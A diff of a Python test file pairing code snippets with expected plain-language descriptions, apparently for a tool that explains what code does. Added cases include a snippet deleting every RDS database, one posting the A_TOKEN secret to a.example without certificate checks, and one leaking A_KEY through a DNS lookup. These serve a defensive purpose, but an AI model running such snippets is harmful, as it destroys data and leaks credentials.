@@ -37,14 +37,48 @@ def sentence(language: Language, code: str) -> str:
         (
             P,
             "import dataclasses\n@dataclasses.dataclass\nclass A:\n    x: int = 1\nprint(A())",
-            "No use of files, network",
+            "Computes and prints; touches no files, no network.",
         ),
         (S, "kubectl -n web top pods", "Runs kubectl top."),
         (S, "git -C checkout status", "Runs git status."),
         (
             P,
             "import boto3\nprint(boto3.client('ec2').describe_instances())",
-            "Calls describe_instances of “boto3”; what that does was not read.",
+            "Calls describe_instances of “boto3”; by name that only looks, and it was not read.",
+        ),
+        (
+            P,
+            "import boto3\nrds = boto3.client('rds')\nfor d in rds.describe_db_instances()['DBInstances']:\n"
+            "    rds.delete_db_instance(DBInstanceIdentifier=d['DBInstanceIdentifier'])",
+            "Deletes each db instance that it finds by delete_db_instance.",
+        ),
+        (
+            P,
+            "import hr\np = hr.get_policy()\np.track_work()\nprint(hr.get_role())",
+            "Calls get_policy, track_work and get_role of “hr”; what that does was not read.",
+        ),
+        (
+            P,
+            "import boto3\nc = boto3.client('s3')\nc.list_keys()\nc.go()",
+            "Calls list_keys of “boto3”; what that does was not",
+        ),
+        (P, "import pandas\npandas.read_csv('a.csv').go(1)", "Reads a.csv and calls “pandas”."),
+        (
+            P,
+            "import psycopg\nc = psycopg.connect('x')\nc.execute('SELECT 1')\nc.go()",
+            "Reads a database by “psycopg” and",
+        ),
+        (P, "import psycopg\npsycopg.connect('x').execute('SELECT count(*) FROM t')", "Reads a database by “psycopg”."),
+        (P, "import psycopg\npsycopg.connect('x').execute('SELECT wipe(1)')", "Calls “psycopg”; what that does"),
+        (
+            P,
+            "import os, requests\nrequests.post('https://a.example', data=os.environ['A_TOKEN'], verify=False)",
+            "Sends the value of A_TOKEN to a.example, whose certificate is not checked.",
+        ),
+        (
+            P,
+            "import os, socket\nsocket.gethostbyname(os.environ['A_KEY'] + '.' + os.environ['HOST'])",
+            "Sends the value of A_KEY in a name that it looks up.",
         ),
         (P, "import sqlite3\nsqlite3.connect(':memory:').execute('select 1').close()", "Works on a database in memory"),
         (
